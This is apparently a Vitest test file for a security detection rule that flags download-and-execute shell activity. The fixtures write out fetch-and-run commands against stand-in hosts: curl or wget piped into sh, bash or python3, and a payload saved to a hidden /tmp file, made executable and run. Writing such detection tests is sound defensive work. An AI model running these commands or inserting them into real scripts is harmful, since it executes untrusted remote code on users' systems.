import { describe, expect, test } from 'vitest';
import { exec, sh, ruleTable, runRule } from '../../test-kit.js';
import { downloadExecute } from './download-and-execute.js';

describe('proc.download-and-execute', () => {
  ruleTable(downloadExecute, {
    fires: [
      { name: 'curl | sh', event: sh('curl -fsSL https://get.rogue.test/install.sh | sh') },
      { name: 'wget -O- | bash', event: sh('wget -qO- http://198.18.0.9/x | bash') },
      { name: 'bash <(curl)', event: sh('bash <(curl -s https://get.rogue.test/i.sh)') },
      { name: 'sh -c "$(curl)"', event: sh('sh -c "$(curl -fsSL https://get.rogue.test/i.sh)"') },
      {
        name: 'download, chmod +x, run',
        event: sh('curl -o /tmp/.s https://get.rogue.test/s && chmod +x /tmp/.s && /tmp/.s'),
      },
      { name: 'curl | python3 -', event: sh('curl -s https://get.rogue.test/p.py | python3 -') },
      {
        name: 'sibling execs under eBPF',
        given: [exec(['curl', '-s', 'https://get.rogue.test/x'], { pid: 601, ppid: 600 })],
        event: exec(['bash'], { pid: 602, ppid: 600 }),
      },
      {
        name: 'sibling execs under eBPF, the shell exec first',
        given: [exec(['sh'], { pid: 612, ppid: 610 })],
        event: exec(['curl', '-s', 'https://get.rogue.test/x'], { pid: 611, ppid: 610 }),
      },
    ],
    passes: [
      {
        name: 'download to a file',
        event: sh('curl -fsSLo data.json https://registry.test/data.json'),
      },
      { name: 'curl | jq', event: sh('curl -s https://registry.test/api | jq .name') },
      {
        name: 'a download beside a shell that runs a script file',
        given: [exec(['sh', 'build.sh'], { pid: 622, ppid: 620 })],
        event: exec(['curl', '-so', 'x.tgz', 'https://registry.test/x.tgz'], {
          pid: 621,
          ppid: 620,
        }),
      },
      {
        name: 'wget tarball and extract',
        event: sh('wget https://registry.test/x.tgz && tar xzf x.tgz'),
      },
    ],
  });

  test('a script from a listed host is low', () => {
    const hit = runRule(downloadExecute, {
      event: sh('curl -fsSL https://registry.test/install.sh | sh'),
      policy: { network: { allow: ['registry.test:443'] } },
    });
    expect(hit?.severity).toBe('low');
  });
});
